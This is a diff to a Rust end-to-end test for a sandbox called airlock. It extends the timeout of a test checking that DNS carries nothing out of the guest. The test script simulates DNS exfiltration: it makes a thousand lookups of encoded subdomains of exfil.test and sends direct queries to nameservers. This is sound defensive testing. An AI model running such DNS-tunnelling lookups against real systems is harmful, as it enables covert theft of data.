@@ -15,7 +15,7 @@ use airlock_records::Record;
 use airlock_test_kit::e2e::records::records;
 use airlock_test_kit::e2e::serve::{Events, Serve};
 use airlock_test_kit::e2e::upstream::{client_hello, DnsServer, HttpUpstream, TestCa, TlsUpstream, GREEN};
-use airlock_test_kit::e2e::{guest_sh_in, poll, Env};
+use airlock_test_kit::e2e::{airlock_in, guest_sh_in, poll, Env};
 use anyhow::{ensure, Context, Result};
 use serde_json::{json, Value};
 
@@ -451,7 +451,33 @@ async fn dns_carries_nothing_out(backend: &'static str) -> Result<()> {
     let script = "i=0; while [ $i -lt 1000 ]; do getent hosts $(printf '%04x' $i)c0ffee.exfil.test >/dev/null; i=$((i+1)); done; \
                   for s in $(awk '/^nameserver/ {print $2}' /etc/resolv.conf) 192.0.2.53; do \
                   busybox nslookup -timeout=1 aa55.exfil.test $s >/dev/null 2>&1; done; cat /etc/resolv.conf";
-    let resolv = guest(&env, &n.sb, script.to_string()).await?;
+    // A thousand lookups take a while on a busy two-core host (or under TCG): a deadline of
+    // minutes, not the exec default of 30 s.
+    let (root, sb) = (env.root.clone(), n.sb.clone());
+    let out = tokio::task::spawn_blocking(move || {
+        airlock_in(
+            &root,
+            &[
+                "sandbox",
+                "exec",
+                "--timeout",
+                "300",
+                &sb,
+                "--",
+                "sh",
+                "-c",
+                script,
+            ],
+        )
+    })
+    .await
+    .context("the lookups' thread")?;
+    ensure!(
+        out.status.success(),
+        "the lookups failed in the guest: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let resolv = String::from_utf8_lossy(&out.stdout).into_owned();
     ensure!(
         resolv.contains("nameserver 127.0.0.1"),
         "resolv.conf is {resolv:?}"
